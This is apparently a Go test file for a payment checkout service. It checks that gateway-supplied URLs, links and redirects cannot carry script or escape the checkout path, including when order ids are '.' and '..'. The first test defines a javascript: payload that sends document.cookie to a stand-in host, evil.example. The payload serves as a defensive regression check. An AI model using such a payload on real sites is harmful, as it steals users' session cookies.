package handlers_test

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"pitlane/access"
	"pitlane/payments"
	"pitlane/payments/gateway/fakegw"
	"pitlane/views"
)

// A javascript: confirmation_url never reaches a page as a link or a redirect: a gateway that
// answers one gets it dropped at apply time (the Pay click then waits on the order's page, and
// the session is flagged), and a row that holds one from before that rule is not rendered nor
// followed by the checkout page, nor linked by the console. The main before this change
// rendered it with templ.SafeURL and redirected customers to it.
func TestJavascriptConfirmationURLIsNeverRenderedOrFollowed(t *testing.T) {
	t.Parallel()
	b := newConsoleBench(t)
	const evil = "javascript:fetch('//evil.example/?'+document.cookie)"

	// Answered by the gateway to a Pay click: not stored, not followed.
	b.gw.SetConfirmationURL(evil)
	a := b.agent(t)
	action, form := payForm(t, a, b.link(t, "o-evil", 1999, "EUR"))
	rec := a.post(action, form)
	if loc := rec.Header().Get("Location"); rec.Code != http.StatusSeeOther || !strings.HasPrefix(loc, "/checkout/o-evil") {
		t.Fatalf("Pay = %d to %q, want the order's own page", rec.Code, loc)
	}
	if n := b.count(t, `SELECT count(*) FROM payment_sessions WHERE confirmation_url IS NOT NULL OR flagged_at IS NULL`); n != 0 {
		t.Fatalf("%d sessions store the URL or are not flagged", n)
	}
	b.gw.SetConfirmationURL("")

	// A row from before the rule: the page neither links nor redirects to it.
	s := b.payment(t, "o-old-row", 1999)
	if _, err := b.pool.Exec(context.Background(), `UPDATE payment_sessions SET confirmation_url = $2 WHERE id = $1`, s.ID, evil); err != nil {
		t.Fatal(err)
	}
	rec = a.get(b.orderPage("o-old-row", ""))
	if rec.Code != http.StatusOK || strings.Contains(rec.Body.String(), "javascript:") {
		t.Fatalf("checkout page = %d, renders the URL:\n%s", rec.Code, rec.Body)
	}
	b.user(t, "sup@example.com", access.RoleSupport)
	sup := b.agent(t)
	sup.login("sup@example.com")
	rec = sup.get("/payments/" + s.ID)
	if rec.Code != http.StatusOK || strings.Contains(rec.Body.String(), `href="javascript:`) {
		t.Fatalf("console payment page = %d, links the URL", rec.Code)
	}
}

// browserURL resolves ref against base the way a browser does (the WHATWG URL standard), where
// Go's url.ResolveReference follows RFC 3986. The one difference that matters to checkout URLs
// (ASCII path segments, a query) is made here: a path segment that is "." or ".." with any of
// its dots percent-encoded ("%2e", "%2E%2e", ".%2E", "%2e.") is a dot segment to a browser too,
// and is resolved away with the literal ones. TestBrowserCheckoutURLsResolveAsTheTestsDo checks
// this helper against Chromium's own URL parser, so the tests below stand for real browsers.
func browserURL(t testing.TB, base, ref string) *url.URL {
	t.Helper()
	b, err := url.Parse(base)
	if err != nil {
		t.Fatal(err)
	}
	u, err := url.Parse(ref)
	if err != nil {
		t.Fatal(err)
	}
	segs := strings.Split(u.EscapedPath(), "/")
	for i, seg := range segs {
		switch strings.ToLower(seg) {
		case "%2e":
			segs[i] = "."
		case ".%2e", "%2e.", "%2e%2e":
			segs[i] = ".."
		}
	}
	raw := strings.Join(segs, "/")
	if u.Path, err = url.PathUnescape(raw); err != nil {
		t.Fatal(err)
	}
	u.RawPath = raw
	return b.ResolveReference(u)
}

// returnsGateway is the fake gateway that also keeps the return URL of the last registration.
type returnsGateway struct {
	*fakegw.Gateway
	mu   sync.Mutex
	last string
}

func (g *returnsGateway) Register(ctx context.Context, req payments.RegisterRequest) (payments.GatewayPayment, error) {
	g.mu.Lock()
	g.last = req.ReturnURL
	g.mu.Unlock()
	return g.Gateway.Register(ctx, req)
}

func (g *returnsGateway) returnURL() string {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.last
}

// "." and ".." are valid order ids, but a browser resolves such path segments away before it
// sends the request (/checkout/.. becomes /), and so it does with %2E and %2E%2E, their
// percent-encoded spelling (WHATWG URL, unlike RFC 3986): every checkout URL pitlane hands out
// spells them "~." and "~..", so the link, the Pay form, the page a Pay click leads to, the
// gateway's return URL and a waiting page's next look survive the browser's resolution and
// reach the order (from an outside audit: the links of these orders opened the console; then
// the %2E spelling, which Go's resolution keeps and browsers do not).
// Negative control (run by hand): with CheckoutPath spelling them %2E (the release before),
// the link of ".." becomes "/?amount=…" in a browser.
func TestCheckoutURLsOfDotOrderIDsSurviveBrowsers(t *testing.T) {
	t.Parallel()
	b := newConsoleBench(t)
	const shop = "https://shop.example"
	gw := &returnsGateway{Gateway: b.gw}
	_, e := b.replica(b.pool, "replica-dots", gw, func(c *payments.Config) {
		c.ReturnURL = func(s payments.Session) string { return shop + payments.CheckoutPath(s.OrderID) } // as cmd's
	})
	// survives: the URL a browser requests for ref (on the shop's page at from) is ref itself.
	survives := func(order, what, from, ref string) string {
		t.Helper()
		got := browserURL(t, from, ref)
		if u, _ := url.Parse(ref); u.IsAbs() {
			if got.String() != ref {
				t.Fatalf("order %q: %s %s becomes %s in a browser", order, what, ref, got)
			}
		} else if got.RequestURI() != ref {
			t.Fatalf("order %q: %s %s becomes %s in a browser", order, what, ref, got.RequestURI())
		}
		if !strings.HasPrefix(got.Path, "/checkout/") {
			t.Fatalf("order %q: %s leads out of the checkout: %s", order, what, got)
		}
		return got.RequestURI()
	}
	orderOf := func(doc *goquery.Document) string {
		return doc.Find("title").Text()
	}
	for _, order := range []string{".", "..", "a.b", ".a", "a.."} {
		a := newAgent(t, e)
		link := survives(order, "the link", shop+"/", b.link(t, order, 1999, "EUR"))
		if title := orderOf(page(t, a.get(link), http.StatusOK)); !strings.Contains(title, "Order "+order+" ·") {
			t.Fatalf("order %q: its link opens %q", order, title)
		}
		action, form := payForm(t, a, link)
		action = survives(order, "the Pay form's action", shop+link, action)

		// A registration the gateway refuses: the click lands on the order's page, following it.
		b.gw.Fail(fakegw.OpRegister, fakegw.Definitive, 1)
		rec := a.post(action, form)
		if rec.Code != http.StatusSeeOther {
			t.Fatalf("order %q: Pay = %d %s", order, rec.Code, rec.Body)
		}
		follow := survives(order, "the Pay click's redirect", shop+action, rec.Header().Get("Location"))
		if st := page(t, a.get(follow), http.StatusOK).Find(testid("checkout-state")).AttrOr("data-state", ""); st != views.CheckoutDeclined {
			t.Fatalf("order %q: the Pay click leads to a page in state %q", order, st)
		}
		back := survives(order, "the gateway's return URL", "https://bank.example/pay", gw.returnURL())
		if st := page(t, a.get(back), http.StatusOK).Find(testid("checkout-state")).AttrOr("data-state", ""); st != views.CheckoutDeclined {
			t.Fatalf("order %q: the return URL leads to a page in state %q", order, st)
		}

		// Try again, paid at the bank, not confirmed yet: the waiting page's next look.
		action, retry := payForm(t, a, back)
		action = survives(order, "the retry form's action", shop+back, action)
		if rec := a.post(action, retry); rec.Code != http.StatusSeeOther {
			t.Fatalf("order %q: Try again = %d %s", order, rec.Code, rec.Body)
		}
		var gp string
		if err := b.pool.QueryRow(context.Background(), `SELECT gateway_payment_id FROM payment_sessions
			WHERE order_id = $1 AND status = 'Registered'`, order).Scan(&gp); err != nil {
			t.Fatalf("order %q: %v", order, err)
		}
		b.gw.SetStatus(gp, payments.GatewayAuthorized)
		rec = a.get(back)
		_, next, _ := strings.Cut(rec.Header().Get("Refresh"), "; url=")
		next = survives(order, "the waiting page's next look", shop+back, next)
		if st := page(t, a.get(next), http.StatusOK).Find(testid("checkout-state")).AttrOr("data-state", ""); st != views.CheckoutConfirming {
			t.Fatalf("order %q: the next look shows state %q", order, st)
		}
		if n := b.count(t, `SELECT count(*) FROM payment_sessions WHERE order_id = $1`, order); n != 2 {
			t.Fatalf("order %q: sessions = %d, want 2", order, n)
		}
	}
	// Earlier links spelled the dots %2E: clients that send it as it is (not browsers) still
	// reach the order with them.
	old := strings.Replace(b.link(t, "..", 1999, "EUR"), "/checkout/~..", "/checkout/%2E%2E", 1)
	if title := orderOf(page(t, newAgent(t, e).get(old), http.StatusOK)); !strings.Contains(title, "Order .. ·") {
		t.Fatalf("the %%2E spelling opens %q", title)
	}
	// "~" is not in the order-id alphabet: only "~." and "~.." stand for the dots.
	if rec := newAgent(t, e).get("/checkout/~a"); rec.Code != http.StatusNotFound {
		t.Fatalf("/checkout/~a = %d, want 404", rec.Code)
	}
}

// An order id is the shop's, and an upper-case GUID is one (1–64 of [A-Za-z0-9._:-]): the
// console's canonical path ids (web's canonicalIDs) lower-cased the checkout's :order_id too, and
// the customer of such an order met "This payment link is incomplete or was changed" on the
// shop's signed link (this session's own review). Negative control: canonicalIDs on every
// parameter (400, bad-link).
func TestCheckoutOfAnUpperCaseGUIDOrder(t *testing.T) {
	t.Parallel()
	b := newConsoleBench(t)
	a := b.agent(t)
	const order = "3F2504E0-4F89-11D3-9A0C-0305E82C3301"
	action, form := payForm(t, a, b.link(t, order, 1999, "EUR"))
	if rec := a.post(action, form); rec.Code != http.StatusSeeOther || !strings.HasPrefix(rec.Header().Get("Location"), "https://") {
		t.Fatalf("Pay on order %s: %d %s", order, rec.Code, rec.Header().Get("Location"))
	}
	if n := b.count(t, `SELECT count(*) FROM payment_sessions WHERE order_id = $1`, order); n != 1 {
		t.Fatalf("%d payments of order %s", n, order)
	}
	if st := page(t, a.get(b.orderPage(order, "/return")), http.StatusOK).Find(testid("checkout-state")).AttrOr("data-state", ""); st == "" || st == views.CheckoutBadLink {
		t.Fatalf("the return page of order %s: state %q", order, st)
	}
}
